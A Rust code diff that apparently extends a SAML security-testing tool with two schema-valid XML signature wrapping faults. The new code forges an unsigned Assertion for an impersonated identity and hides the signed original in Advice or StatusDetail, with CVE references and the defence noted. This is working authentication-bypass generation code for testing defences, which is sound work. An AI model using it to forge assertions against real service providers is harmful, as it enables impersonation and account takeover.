@@ -39,6 +39,14 @@ pub enum SamlFault {
     CommentInNameId,
     /// XML signature wrapping, numbered as SAML Raider numbers them (1 to 8).
     Xsw(u8),
+    /// S-32: wrapping that stays valid against the SAML 2.0 schema. The
+    /// Response's one Assertion is an unsigned copy naming the impersonated
+    /// identity, and the signed original hides in that copy's `Advice`,
+    /// where the schema allows Assertions.
+    XswAdvice,
+    /// S-32: as `XswAdvice`, but the signed original hides in
+    /// `Status/StatusDetail`, which takes any element.
+    XswStatusDetail,
     MultipleAssertions,
     DoctypeEntity,
     /// P-15: an unsigned Assertion for the impersonated identity, encrypted
@@ -100,6 +108,7 @@ impl SamlFault {
             SamlFault::CommentInNameId,
         ];
         all.extend((1..=8).map(SamlFault::Xsw));
+        all.extend([SamlFault::XswAdvice, SamlFault::XswStatusDetail]);
         all.extend([
             SamlFault::MultipleAssertions,
             SamlFault::DoctypeEntity,
@@ -131,6 +140,8 @@ impl SamlFault {
             SamlFault::BadSignature
                 | SamlFault::CommentInNameId
                 | SamlFault::Xsw(_)
+                | SamlFault::XswAdvice
+                | SamlFault::XswStatusDetail
                 | SamlFault::MultipleAssertions
                 | SamlFault::EncryptedUnsigned
         )
@@ -188,6 +199,12 @@ impl SamlFault {
             SamlFault::Xsw(_) => {
                 "XSW8: the Assertion is edited in place; the unsigned original goes in an Object element inside its Signature."
             }
+            SamlFault::XswAdvice => {
+                "Schema-valid wrapping: the Response's Assertion is an edited, unsigned copy with a new ID, and the signed original is inside that copy's Advice; only the Assertion was signed."
+            }
+            SamlFault::XswStatusDetail => {
+                "Schema-valid wrapping: the Response's Assertion is an edited, unsigned copy with a new ID, and the signed original is inside Status/StatusDetail; only the Assertion was signed."
+            }
             SamlFault::MultipleAssertions => {
                 "A second, unsigned Assertion for the impersonated identity follows the signed one."
             }
@@ -227,6 +244,9 @@ impl SamlFault {
                 "CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2017-11430, CVE-2018-0489"
             }
             SamlFault::Xsw(_) => "Somorovsky et al., On Breaking SAML (2012); SAML Raider",
+            SamlFault::XswAdvice | SamlFault::XswStatusDetail => {
+                "attacks.md S-32; samlify CVE-2025-47949, node-saml CVE-2025-54369 and CVE-2025-54419 (read identity only from the signed element)"
+            }
             SamlFault::MultipleAssertions => "CVE-2022-41912",
             SamlFault::DoctypeEntity => "CVE-2025-25291, CVE-2025-23369 (reject any DTD)",
             SamlFault::EncryptedUnsigned => {
@@ -264,6 +284,13 @@ impl SamlFault {
                 content.status = Status::Responder { second_level: STATUS_AUTHN_FAILED.to_owned() };
             }
             SamlFault::Xsw(1 | 2) => content.signatures.response = true,
+            // Only the Assertion is signed, as an IdP may send it: a Response
+            // signature would cover the wrapper and give the forgery away,
+            // and the point is an SP that trusts "a signed Assertion".
+            SamlFault::XswAdvice | SamlFault::XswStatusDetail => {
+                content.signatures.response = false;
+                content.signatures.assertion = true;
+            }
             SamlFault::Xsw(_) => content.signatures.assertion = true,
             SamlFault::SignOnly(mode) => {
                 content.signatures.response = mode.signs_response();
@@ -301,6 +328,8 @@ impl SamlFault {
                 Ok(format!("{}<!---->{}", &signed[..split], &signed[split..]))
             }
             SamlFault::Xsw(n) => xsw(n, signed, identity),
+            SamlFault::XswAdvice => schema_valid_wrap(signed, identity, Hiding::Advice),
+            SamlFault::XswStatusDetail => schema_valid_wrap(signed, identity, Hiding::StatusDetail),
             SamlFault::MultipleAssertions => {
                 let assertion = assertion_span(signed)?;
                 let evil = evil_copy(&signed[assertion.clone()], identity, true, true)?;
@@ -472,6 +501,38 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, SamlFaultErro
     Ok(format!("{declaration}{rebuilt}"))
 }
 
+/// Where a schema-valid wrapping hides the signed original.
+#[derive(Clone, Copy)]
+enum Hiding {
+    Advice,
+    StatusDetail,
+}
+
+/// S-32: the wrapping stays valid against the SAML 2.0 schema, so an SP
+/// that validates the schema before it checks signatures still meets it.
+/// The Response keeps one Assertion child, the edited unsigned copy, and
+/// the signed original goes where the schema takes an Assertion: the copy's
+/// `Advice` (after `Conditions`, in the Assertion's sequence) or
+/// `StatusDetail` (any element). Every ID stays unique.
+fn schema_valid_wrap(signed: &str, identity: &Identity, hiding: Hiding) -> Result<String, SamlFaultError> {
+    let assertion = assertion_span(signed)?;
+    let original = signed[assertion.clone()].to_owned();
+    let evil = evil_copy(&original, identity, true, true)?;
+    match hiding {
+        Hiding::Advice => {
+            let conditions = element_span(&evil, "<saml2:Conditions ", "</saml2:Conditions>", 0)
+                .ok_or(SamlFaultError::Shape("Conditions"))?;
+            let evil = insert(&evil, conditions.end, &format!("<saml2:Advice>{original}</saml2:Advice>"));
+            Ok(format!("{}{}{}", &signed[..assertion.start], evil, &signed[assertion.end..]))
+        }
+        Hiding::StatusDetail => {
+            let replaced = format!("{}{}{}", &signed[..assertion.start], evil, &signed[assertion.end..]);
+            let status_end = replaced.find("</saml2p:Status>").ok_or(SamlFaultError::Shape("Status"))?;
+            Ok(insert(&replaced, status_end, &format!("<saml2p:StatusDetail>{original}</saml2p:StatusDetail>")))
+        }
+    }
+}
+
 impl fmt::Display for SamlFault {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let name = match self {
@@ -491,6 +552,8 @@ impl fmt::Display for SamlFault {
             SamlFault::StatusResponder => "status-responder",
             SamlFault::CommentInNameId => "comment-in-nameid",
             SamlFault::Xsw(n) => return write!(f, "xsw{n}"),
+            SamlFault::XswAdvice => "xsw-advice",
+            SamlFault::XswStatusDetail => "xsw-status-detail",
             SamlFault::MultipleAssertions => "multiple-assertions",
             SamlFault::DoctypeEntity => "doctype-entity",
             SamlFault::EncryptedUnsigned => "encrypted-unsigned-assertion",
@@ -516,11 +579,12 @@ impl FromStr for SamlFault {
         if let Some(mode) = text.strip_prefix("sign:") {
             return SigningMode::parse(mode).map(SamlFault::SignOnly).ok_or_else(unknown);
         }
-        if let Some(n) = text.strip_prefix("xsw") {
-            return match n.parse::<u8>() {
-                Ok(n @ 1..=8) => Ok(SamlFault::Xsw(n)),
-                _ => Err(unknown()),
-            };
+        // `xsw` and a number is SAML Raider's numbering; the named,
+        // schema-valid variants are found in the list below.
+        if let Some(n) = text.strip_prefix("xsw")
+            && let Ok(n) = n.parse::<u8>()
+        {
+            return if (1..=8).contains(&n) { Ok(SamlFault::Xsw(n)) } else { Err(unknown()) };
         }
         SamlFault::all()
             .into_iter()
